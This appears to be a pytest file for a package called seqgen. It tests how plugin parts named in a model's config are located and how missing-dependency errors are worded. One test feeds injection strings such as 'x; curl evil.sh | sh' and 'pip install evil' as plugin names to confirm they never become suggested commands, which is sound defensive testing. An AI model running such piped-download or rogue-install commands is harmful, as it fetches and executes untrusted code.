"""The parts that a model's folder names are found, or the person is told what is missing, and never by a stranger's words."""

from __future__ import annotations

import re
import time
from dataclasses import replace

import pytest

from seqgen import __version__
from seqgen.core.catalog import Catalog, load_catalog
from seqgen.core.errors import DamagedModelError, MissingDependencyError, OptionError, PluginError
from seqgen.core.hookspecs import hookimpl
from seqgen.core.options import PartSpec
from seqgen.core.plugin import Plugin
from seqgen.core.spec import ModelSpec
from seqgen.model_config import ModelConfig, PartRecord
from seqgen.recorded_parts import find_recorded, make_recorded, make_tokenizer, with_recorded_options
from seqgen.tokenizers.char import CharTokenizer


def naming(**parts):
    """What the folder of a model with these parts says."""
    return ModelConfig(ModelSpec(vocab_size=4), parts, training={}, origins={}, has_ends=False)


def test_a_part_that_is_not_named_is_missing_in_the_folder():
    with pytest.raises(DamagedModelError, match="^m:1/config.json: names no dataset.$"):
        find_recorded(load_catalog(), "dataset", naming(), where="m:1")


def test_an_option_that_a_later_version_of_a_part_wrote_asks_for_that():
    config = naming(dataset=PartRecord("text", "seqgen", "999.0", {"surprise": 1}))
    with pytest.raises(OptionError) as error:
        make_recorded(load_catalog(), "dataset", config, where="m:1", sources=("a.txt",))
    assert str(error.value).startswith('m:1/config.json: dataset text has no option "surprise".')
    assert str(error.value).endswith(
        f".  It was written by seqgen 999.0, and this is seqgen {__version__}.  Upgrade seqgen."
    )


class Renamed:
    """Version 0.2.0 of a plugin, whose parts were called otherwise before, and had other options."""

    @hookimpl
    def register_tokenizers(self, register):
        register("plain-two", "seqgen.tokenizers.char:CharTokenizer", summary="a toy")

    @hookimpl
    def register_datasets(self, register):
        register("nth", "seqgen.datasets.text:TextDataset", summary="a toy")

    @hookimpl
    def register_backends(self, register):
        register("opt", "seqgen.backends.torch.backend:TorchBackend", summary="a toy")


VERSIONS = "It was written by seqgen-up 0.1.0, and this is seqgen-up 0.2.0, which may not read it.  pip install seqgen-up==0.1.0"


def renamed():
    return Catalog([*load_catalog().plugins, Plugin("up", "up", "seqgen-up", "0.2.0", Renamed)])


def test_an_option_that_an_earlier_version_of_a_plugin_wrote_and_this_one_lacks_asks_for_that_version():
    config = naming(dataset=PartRecord("nth", "seqgen-up", "0.1.0", {"every": 2}))
    with pytest.raises(OptionError) as error:
        make_recorded(renamed(), "dataset", config, where="up:1", sources=("a.txt",))
    assert str(error.value) == (
        f'up:1/config.json: dataset nth has no option "every".  It has: encoding, errors.  {VERSIONS}'
    )


def test_an_option_that_a_part_of_the_same_version_lacks_names_the_file():
    config = naming(dataset=PartRecord("nth", "seqgen-up", "0.2.0", {"every": 2}))
    with pytest.raises(OptionError) as error:
        make_recorded(renamed(), "dataset", config, where="up:1", sources=("a.txt",))
    assert str(error.value) == 'up:1/config.json: dataset nth has no option "every".  It has: encoding, errors'


def test_a_state_that_an_earlier_version_of_a_tokenizer_wrote_and_this_one_does_not_read_asks_for_that_version():
    config, catalog = naming(tokenizer=PartRecord("plain-two", "seqgen-up", "0.1.0")), renamed()
    entry = find_recorded(catalog, "tokenizer", config, where="up:1")
    with pytest.raises(DamagedModelError) as error:
        make_tokenizer(entry, {"letters": ["a"]}, config, where="up:1")
    assert re.fullmatch(rf"up:1/tokenizer.json: The state .*\.  {re.escape(VERSIONS)}", str(error.value))


@pytest.mark.parametrize(
    ("kind", "there", "version", "command"),
    [
        ("tokenizer", ", but has: plain-two", "0.1.0", "pip install seqgen-up==0.1.0"),
        ("dataset", ", but has: nth", "0.3.0", "pip install seqgen-up==0.3.0"),
        ("backend", ", but has: opt", "0.2.0", "seqgen list-plugins --kind backend"),
        ("sampler", "", "0.1.0", "pip install seqgen-up==0.1.0"),
    ],
)
def test_a_part_that_the_installed_plugin_does_not_have_any_more_is_not_said_to_be_not_installed(
    kind, there, version, command
):
    with pytest.raises(MissingDependencyError) as error:
        find_recorded(renamed(), kind, naming(**{kind: PartRecord("plain", "Seqgen_Up", version)}), where="up:1")
    assert str(error.value) == (
        f'Model up:1 needs the {kind} "plain" of Seqgen_Up {version}.  Installed is seqgen-up 0.2.0, which has no {kind} of '
        f"that name{there}.  {command}"
    )


def test_a_part_whose_plugin_is_not_installed_says_what_to_install():
    config = naming(tokenizer=PartRecord("abc", "seqgen-music", "1.2"))
    with pytest.raises(MissingDependencyError) as error:
        find_recorded(load_catalog(), "tokenizer", config, where="m:1")
    assert str(error.value) == (
        'Model m:1 needs the tokenizer "abc" of seqgen-music 1.2, which is not installed.  pip install seqgen-music'
    )


@pytest.mark.parametrize(
    ("named", "sentence"),
    [
        (
            {"distribution": "x; curl evil.sh | sh"},
            'the tokenizer "abc" of "x; curl evil.sh | sh" 1.2, which is no name of a distribution, so that nothing can be installed.',
        ),
        (
            {"distribution": "--index-url=evil"},
            'the tokenizer "abc" of "--index-url=evil" 1.2, which is no name of a distribution, so that nothing can be installed.',
        ),
        (
            {"distribution": "x" * 100},
            f'the tokenizer "abc" of "{"x" * 80}..." 1.2, which is no name of a distribution, so that nothing can be installed.',
        ),
        (
            {"name": 'abc".\n  pip install evil', "version": "1.  pip install evil"},
            (
                'the tokenizer "abc\\".\\n  pip install evil" of seqgen-music "1.  pip install evil", which is not installed.'
                "  pip install seqgen-music"
            ),
        ),
        (
            {"distribution": "seqgen", "version": "9.0"},
            f'the tokenizer "abc" of seqgen 9.0, which this seqgen ({__version__}) does not have.  A newer seqgen is needed.',
        ),
        (
            {"distribution": "SeqGen"},
            f'the tokenizer "abc" of SeqGen 1.2, which this seqgen ({__version__}) does not have.  A newer seqgen is needed.',
        ),
    ],
)
def test_what_a_stranger_says_of_a_plugin_becomes_no_command(named, sentence):
    config = naming(tokenizer=replace(PartRecord("abc", "seqgen-music", "1.2"), **named))
    with pytest.raises(MissingDependencyError) as error:
        find_recorded(load_catalog(), "tokenizer", config, where="m:1")
    assert str(error.value) == f"Model m:1 needs {sentence}"


def test_a_part_is_found_and_has_its_options_whatever_way_its_distribution_is_spelled():
    class Offering:
        @hookimpl
        def register_tokenizers(self, register):
            register("toy", "seqgen.tokenizers.char:CharTokenizer", summary="a toy")

    catalog = Catalog([*load_catalog().plugins, Plugin("toy", "toy", "Toy_Box", "1", Offering)])
    config = naming(tokenizer=PartRecord("toy", "toy-box", "1", {"lowercase": True}))
    assert find_recorded(catalog, "tokenizer", config, where="m:1").plugin.distribution == "Toy_Box"
    assert make_recorded(catalog, "tokenizer", config, where="m:1").lowercase is True
    assert with_recorded_options(catalog, "tokenizer", PartSpec("toy", {}), config).values == {"lowercase": True}


@pytest.mark.parametrize(
    ("state", "reason"),
    [
        ({"problem": "loading failed: boom"}, "loading failed: boom"),
        ({"disabled": "SEQGEN_DISABLE_PLUGINS"}, "SEQGEN_DISABLE_PLUGINS disables it"),
    ],
)
def test_a_part_whose_plugin_cannot_be_used_says_why_whatever_way_its_distribution_is_spelled(state, reason):
    catalog = Catalog([*load_catalog().plugins, Plugin("toy", "toy", "Toy_Box", "1", object, **state)])
    with pytest.raises(PluginError) as error:
        find_recorded(catalog, "tokenizer", naming(tokenizer=PartRecord("toy", "toy-box", "1")), where="m:1")
    assert str(error.value) == f'Model m:1 needs the tokenizer "toy" of toy-box, which cannot be used: {reason}'


def test_a_part_whose_plugin_takes_long_to_be_imported_is_waited_for(monkeypatch):
    monkeypatch.setattr(Plugin.usable, "__defaults__", (0.1,))  # seconds, in place of PATIENCE

    class Offering:
        @hookimpl
        def register_tokenizers(self, register):
            register("slow", "seqgen.tokenizers.char:CharTokenizer", summary="comes late")

    def load():
        time.sleep(0.5)
        return Offering()

    config = naming(tokenizer=PartRecord("slow", "seqgen-slow", "1"))
    catalog = Catalog([*load_catalog().plugins, Plugin("slow", "slow", "seqgen-slow", "1", load)])
    assert find_recorded(catalog, "tokenizer", config, where="m:1").load() is CharTokenizer


def test_a_part_of_a_slow_plugin_is_found_though_another_thread_waited_for_that_first(overtaken):
    class Offering:
        @hookimpl
        def register_tokenizers(self, register):
            register("slow", "seqgen.tokenizers.char:CharTokenizer", summary="comes late")

    config = naming(tokenizer=PartRecord("slow", "seqgen-slow", "1"))
    assert find_recorded(overtaken(Offering()), "tokenizer", config, where="m:1").load() is CharTokenizer
